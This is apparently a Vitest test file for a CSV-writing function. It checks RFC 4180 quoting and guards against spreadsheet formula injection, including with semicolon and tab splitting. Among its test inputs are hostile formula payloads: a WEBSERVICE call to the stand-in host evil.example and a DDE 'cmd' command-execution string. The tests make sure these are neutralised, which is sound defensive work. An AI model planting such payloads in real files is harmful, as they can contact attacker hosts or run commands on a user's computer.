import { expect, it } from 'vitest'
import { csvRecord } from './csv'

it('quotes what RFC 4180 asks to be quoted, and ends with CRLF', () => {
  expect(csvRecord(['a', 'b,c', 'd "e"', 'f\ng', '', null])).toBe('a,"b,c","d ""e""","f\ng",,\r\n')
  expect(csvRecord(['a;b', 'c\td'])).toBe('"a;b","c\td"\r\n')
})

/** A spreadsheet that splits at semicolons, as in much of Europe, does not recognise a quote after a comma. */
it.each([
  ['a;=WEBSERVICE("https://evil.example")', `a;'=WEBSERVICE("https://evil.example")`],
  ['a\t@SUM(A1)', "a\t'@SUM(A1)"],
  ['a; "=1+1"', `a;' "=1+1"`],
  ['a;;+1', "a;;'+1"],
  ['a\n=1+1', "a\n'=1+1"],
  ['a\r\n\r\n -1', "a\r\n\r\n' -1"],
])('starts no formula within %j, however a spreadsheet splits it', (cell, written) => {
  expect(csvRecord(['x', cell])).toBe(`x,"${written.replaceAll('"', '""')}"\r\n`)
})

it.each([
  ...['=1+1', '+91 98765 43210', '-1', '@SUM(A1)', '\ta', '\na', ' =1', '＝1', '=cmd|"/c calc"!A0'],
  ...['3-5', '8-12', '1/2', '02228765432', '919876543210', '776225e2', '1E5'],
])('keeps a spreadsheet from reading %j as something else', cell => {
  expect(csvRecord([cell])).toBe(`"'${cell.replaceAll('"', '""')}"\r\n`)
})

it.each([
  'आशा और कबीर',
  '2027-02-14',
  '98765 43210',
  '12+',
  '150',
  'a=b',
  'a - b',
  'we are two: =',
  '👩‍❤️‍👨',
  '2026-11-21T10:00:00.000Z',
])('writes %j as it is', cell => {
  expect(csvRecord([cell])).toBe(`${cell}\r\n`)
})
